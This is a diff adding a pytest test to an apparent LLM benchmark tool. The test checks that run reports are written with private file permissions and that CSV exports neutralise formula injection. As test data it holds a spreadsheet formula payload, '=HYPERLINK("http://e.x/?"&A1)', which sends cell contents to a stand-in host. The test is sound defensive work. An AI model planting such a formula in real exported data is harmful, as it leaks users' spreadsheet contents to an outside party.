@@ -3,10 +3,13 @@ second terminal, on the real embedded SmolLM2, and with the exit codes CI relies
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import signal
 import sqlite3
+import stat
 import subprocess
 import sys
 import time
@@ -222,3 +225,31 @@ def test_report_writes_the_files_of_an_earlier_run(
     assert result.exit_code == 0, result.output
     assert {p.name for p in (tmp_path / "out").iterdir()} >= {"report.html", "report.md", "report.json", "items.csv"}
     assert missing.exit_code == 2 and "does not exist" in missing.output
+
+
+def test_a_run_s_report_is_private_and_its_csv_defuses_formulas(
+    tmp_path: Path, double: OllamaDouble, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    attack = '=HYPERLINK("http://e.x/?"&A1)'
+    double.reply = [attack]
+    monkeypatch.setenv("OLLAMA_HOST", double.url)
+    monkeypatch.setenv("ARENA_EMBEDDED", "0")
+    prompts = tmp_path / "set.jsonl"
+    prompts.write_text(json.dumps({"prompt": "Say it.", "category": "+cmd"}) + "\n")
+    report = tmp_path / "report"
+    previous = os.umask(0o022)  # the usual umask, which leaves new files readable by everyone
+    try:
+        result = runner.invoke(
+            bench_app, ["run", str(prompts), "-m", LLAMA, "-m", QWEN, "--quiet", "--report", str(report)]
+        )
+    finally:
+        os.umask(previous)
+
+    assert result.exit_code == 0, result.output
+    written = [report, *report.rglob("*")]
+    assert {p.name for p in written} >= {"report.html", "report.md", "report.json", "items.csv", "judgments.csv"}
+    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in written} == {
+        p.name: 0o700 if p.is_dir() else 0o600 for p in written
+    }
+    rows = list(csv.DictReader(io.StringIO((report / "items.csv").read_text())))
+    assert {(row["category"], row["answer"]) for row in rows} == {("'+cmd", f"'{attack}")}
